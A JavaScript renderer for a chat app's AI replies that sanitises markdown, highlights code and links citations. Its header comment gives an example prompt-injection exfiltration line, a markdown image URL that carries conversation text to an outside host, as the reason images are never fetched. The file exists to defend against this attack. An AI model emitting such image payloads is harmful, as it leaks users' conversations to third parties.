// A reply's text to safe DOM: markdown (markdown-it, raw HTML off), then DOMPurify, code blocks
// highlighted (highlight.js) with their language and a copy button, images shown as links, and each
// [n] that names one of the reply's sources turned into a link. Libraries: static/vendor/ (README there).
//
// Nothing in a reply is fetched as it renders. A reply can repeat a prompt injection from a shared
// document, and an image's URL (`![x](https://elsewhere/?q=conversation text)`) would carry the
// conversation to that server the moment the <img> appeared. Same-origin images would be safe from
// that, but a reply has none to show: an image is a link the user may follow, and DOMPurify keeps
// only the tags and attributes markdown makes, none of which fetches (the page's
// Content-Security-Policy, img-src 'self', is the third line).
window.ChatRender = (() => {
  "use strict";
  const md = window.markdownit({html: false, linkify: true, breaks: false});
  const escape = md.utils.escapeHtml;
  // Fenced code: a header with the language and a copy button above the highlighted code.
  md.renderer.rules.fence = (tokens, index) => {
    const token = tokens[index];
    const lang = (token.info || "").trim().split(/\s+/)[0].toLowerCase();
    let code;
    try {
      code = lang && hljs.getLanguage(lang)
        ? hljs.highlight(token.content, {language: lang, ignoreIllegals: true}).value
        : escape(token.content);
    } catch (error) {
      code = escape(token.content);
    }
    return `<div class="code-block"><div class="code-head"><span class="code-lang">${escape(lang || "text")}</span>` +
      `<button type="button" class="copy-code" aria-label="Copy code">Copy</button></div>` +
      `<pre><code class="hljs">${code}</code></pre></div>`;
  };

  // An image is a link to it, labelled with its alt text: never an <img>, so never fetched.
  md.renderer.rules.image = (tokens, index, options, env, self) => {
    const token = tokens[index];
    const src = token.attrGet("src");
    const title = token.attrGet("title");
    const alt = self.renderInlineAsText(token.children, options, env);
    return `<a class="image-link" href="${escape(src)}"${title ? ` title="${escape(title)}"` : ""}>` +
      `Image: ${escape(alt || src)}</a>`;
  };

  // Links open in a new tab and tell the target nothing.
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A" && node.hasAttribute("href")) {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
  });
  // Only what markdown-it and the fence rule above produce. Everything that can fetch is left out:
  // img, picture/source, video/audio (and poster), object/embed/iframe, link/meta/style, svg/math
  // (<image>, <use>, <feImage>), and the srcset, background, ping and style attributes.
  const PURIFY = {
    RETURN_DOM_FRAGMENT: true,
    ALLOWED_TAGS: [
      "a", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "code", "pre",
      "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button",
    ],
    ALLOWED_ATTR: ["href", "title", "class", "start", "type", "aria-label"],
    ALLOW_DATA_ATTR: false,
  };

  // [n] in text (not in code or links) becomes a link to source n, if the reply has one.
  function linkCitations(fragment, sources, open) {
    if (!sources || !sources.length) return;
    const byNumber = new Map(sources.map((s) => [String(s.n), s]));
    const walker = document.createTreeWalker(fragment, NodeFilter.SHOW_TEXT, {
      acceptNode: (node) => node.parentElement && node.parentElement.closest("code, pre, a")
        ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT,
    });
    const texts = [];
    while (walker.nextNode()) texts.push(walker.currentNode);
    for (const node of texts) {
      const text = node.nodeValue;
      const parts = [];
      let last = 0;
      for (const match of text.matchAll(/\[(\d{1,3})\]/g)) {
        const source = byNumber.get(match[1]);
        if (!source) continue; // a number with no such source stays text
        parts.push(document.createTextNode(text.slice(last, match.index)));
        const link = document.createElement("a");
        link.href = "#";
        link.className = "cite";
        link.textContent = match[0];
        link.title = source.title;
        link.setAttribute("aria-label", `Source ${source.n}: ${source.title}`);
        link.addEventListener("click", (event) => { event.preventDefault(); open(source); });
        parts.push(link);
        last = match.index + match[0].length;
      }
      if (!parts.length) continue;
      parts.push(document.createTextNode(text.slice(last)));
      node.replaceWith(...parts);
    }
  }

  // The reply's markdown as a sanitised fragment.
  function markdown(text, sources, open) {
    const fragment = DOMPurify.sanitize(md.render(text), PURIFY);
    linkCitations(fragment, sources, open);
    return fragment;
  }

  return {markdown};
})();
